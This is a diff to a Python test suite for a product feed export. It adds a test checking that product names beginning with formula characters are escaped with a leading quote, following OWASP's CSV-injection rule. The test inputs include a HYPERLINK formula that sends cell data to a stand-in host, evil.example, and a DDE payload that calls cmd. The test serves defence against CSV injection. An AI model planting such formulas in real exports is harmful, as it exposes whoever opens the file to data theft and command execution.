@@ -114,6 +114,27 @@ class TestFeed:
         sellable_product(name='Chair, "classic"', skus=["CHAIR"])
         assert read_feed(build())[1][1].startswith('Chair, "classic"')
 
+    @pytest.mark.parametrize(
+        "name",
+        [
+            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)",
+            "\t=1",
+            "\r=1",
+        ],
+    )
+    def test_a_name_a_spreadsheet_would_run_as_a_formula_goes_out_as_text(self, name):
+        """OWASP's CSV-injection rule: a single quote in front, the rest as it was."""
+        product = sellable_product(name=name, skus=["FORMULA-1"])
+        variant_name = product.variants.get().name
+
+        rows = read_feed(build())
+
+        assert rows[1][0] == "FORMULA-1"
+        assert rows[1][1] == f"'{name} ({variant_name})"
+
     def test_a_failure_is_recorded_and_the_task_leaves_the_job_alone_after(self, monkeypatch):
         sellable_product(skus=["A-1"])
 
